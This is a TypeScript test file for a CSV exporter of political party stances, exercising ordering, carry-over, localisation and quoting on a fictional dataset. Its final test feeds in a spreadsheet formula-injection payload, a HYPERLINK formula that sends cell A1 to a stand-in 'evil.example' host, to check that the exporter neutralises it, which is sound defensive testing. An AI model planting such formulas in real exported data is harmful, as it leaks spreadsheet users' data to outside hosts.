import { csvParseRows } from 'd3-dsv'
import { describe, expect, test } from 'vitest'
import { indexDataset } from '../../../src/data/indexDataset.ts'
import { STANCE_CSV_COLUMNS, stancesCsv } from '../../../src/export/stancesCsv.ts'
import { loadTestland, withStances } from '../../support/testland.ts'

const data = loadTestland()

/**
 * Rows run parties → measures → phases in dataset order, so the row of (party p, measure m,
 * phase f) is 1 + 12p + 3m + f (header is row 0; 4 measures × 3 phases = 12 rows per party).
 * Testland: red 0, blue 1, green 2; cap 0, wait 1, brake 2, vote 3; before 0, mid 1, end 2.
 */
const rowOf = (rows: string[][], p: number, m: number, f: number) => {
  const row = rows[1 + 12 * p + 3 * m + f] ?? []
  return Object.fromEntries(STANCE_CSV_COLUMNS.map((c, i) => [c, row[i]]))
}

describe('stancesCsv', () => {
  const rows = csvParseRows(stancesCsv(data, 'en'))

  test('stancesCsv(dataset) has a header and one row per party × measure × phase (3 × 4 × 3 = 36)', () => {
    expect(rows[0]).toEqual([...STANCE_CSV_COLUMNS])
    expect(rows).toHaveLength(37)
    expect(rows.every((row) => row.length === STANCE_CSV_COLUMNS.length)).toBe(true)
  })

  test('stancesCsv orders rows parties → measures → phases in dataset order', () => {
    expect(rows.slice(1, 4).map((r) => r.slice(0, 7).join('|'))).toEqual([
      'red|Red Party|coalition|cap|Cap|family|before',
      'red|Red Party|coalition|cap|Cap|family|mid',
      'red|Red Party|coalition|cap|Cap|family|end',
    ])
    expect(rows[36]?.slice(0, 7)).toEqual([
      'green',
      'Green Party',
      'opposition',
      'vote',
      'Vote',
      'process',
      'end',
    ])
  })

  test('stancesCsv writes the recorded stance: blue|cap|mid is red-line from unnamed sources', () => {
    expect(rowOf(rows, 1, 0, 1)).toEqual({
      party: 'blue',
      party_name: 'Blue Party',
      side: 'coalition',
      measure: 'cap',
      measure_title: 'Cap',
      topic: 'family',
      phase: 'mid',
      phase_label: 'Middle',
      phase_date: '2030-03-03',
      position: 'red-line',
      confidence: 'unnamed-sources',
      summary: 'blue cap mid',
      quotes: '',
      source_urls: 'https://example.org/report-1',
      reported_phase: 'mid',
    })
  })

  test('stancesCsv carries the last known stance over silence, naming its phase; reported only does not', () => {
    // blue|cap|mid falls silent: carried, it repeats opposes from before.
    const silent = withStances(
      data,
      data.stances.filter((s) => !(s.party === 'blue' && s.measure === 'cap' && s.phase === 'mid')),
    )
    const carried = rowOf(csvParseRows(stancesCsv(silent, 'en')), 1, 0, 1)
    expect([carried.phase, carried.position, carried.reported_phase]).toEqual([
      'mid',
      'opposes',
      'before',
    ])
    const reported = rowOf(csvParseRows(stancesCsv(silent, 'en', 'reported')), 1, 0, 1)
    expect([reported.position, reported.reported_phase]).toEqual(['unknown', ''])
  })

  test('stancesCsv writes not-on-table, with empty stance columns, before a measure was proposed', () => {
    const cell = rowOf(rows, 0, 3, 1) // red|vote|mid: vote is proposed at end
    expect([cell.position, cell.confidence, cell.summary, cell.source_urls]).toEqual([
      'not-on-table',
      '',
      '',
      '',
    ])
  })

  test('stancesCsv counts 9 not-on-table (3 per party), 8 unknown (green: 2 + 3 + 2 + 1) and 19 known rows', () => {
    const positions = rows.slice(1).map((r) => r[9])
    expect(positions.filter((p) => p === 'not-on-table')).toHaveLength(9)
    expect(positions.filter((p) => p === 'unknown')).toHaveLength(8)
    expect(rows.slice(1).filter((r) => r[10] !== '')).toHaveLength(19) // known: has a confidence
    expect(rowOf(rows, 2, 1, 2)).toMatchObject({
      position: 'unknown',
      confidence: '',
      summary: 'green wait end',
    })
  })

  test('stancesCsv writes unknown with empty texts where no stance is recorded', () => {
    const silent = withStances(data, [])
    const cell = rowOf(csvParseRows(stancesCsv(silent, 'en')), 0, 0, 0)
    expect([cell.position, cell.confidence, cell.summary]).toEqual(['unknown', '', ''])
  })

  test('stancesCsv joins quotes as "speaker: text" verbatim and source URLs with spaces', () => {
    expect(rowOf(rows, 0, 0, 0)).toMatchObject({
      quotes: 'Ann Example: We want a cap.',
      source_urls: 'https://example.org/report-1',
    })
    const twoQuotes = indexDataset({
      ...data,
      stances: data.stances.map((s) =>
        s.party === 'red' && s.measure === 'cap' && s.phase === 'before'
          ? {
              ...s,
              sources: ['s1', 's2'],
              quotes: [
                ...(s.quotes ?? []),
                { text: 'No, "never", ok?', language: 'en', speaker: 'bob', source: 's3' },
              ],
            }
          : s,
      ),
    })
    expect(rowOf(csvParseRows(stancesCsv(twoQuotes, 'en')), 0, 0, 0)).toMatchObject({
      quotes: 'Ann Example: We want a cap. | Bob Example: No, "never", ok?',
      source_urls:
        'https://example.org/report-1 https://example.org/report-2 https://example.org/report-3',
    })
  })

  test('stancesCsv(dataset, "nl") writes names, titles, labels and summaries in Dutch', () => {
    expect(rowOf(csvParseRows(stancesCsv(data, 'nl')), 1, 0, 1)).toMatchObject({
      party_name: 'Blauwe Partij',
      measure_title: 'Plafond',
      phase_label: 'Midden',
      summary: 'blue cap mid',
    })
  })

  test('stancesCsv neutralises a formula in dataset text with a leading apostrophe', () => {
    const formula = '=HYPERLINK("https://evil.example/?q="&A1,"click")'
    const hostile = indexDataset({
      ...data,
      parties: data.parties.map((p) =>
        p.id === 'blue' ? { ...p, name: { ...p.name, en: '@SUM(1+1)' } } : p,
      ),
      stances: data.stances.map((s) =>
        s.party === 'blue' && s.measure === 'cap' && s.phase === 'mid'
          ? { ...s, summary: { ...s.summary, en: formula } }
          : s,
      ),
    })
    const text = stancesCsv(hostile, 'en')
    const cell = rowOf(csvParseRows(text), 1, 0, 1)
    expect(cell.summary).toBe(`'${formula}`)
    expect(cell.party_name).toBe(`'@SUM(1+1)`)
    expect(text).not.toMatch(/(^|,)"?[=@]/m)
  })
})
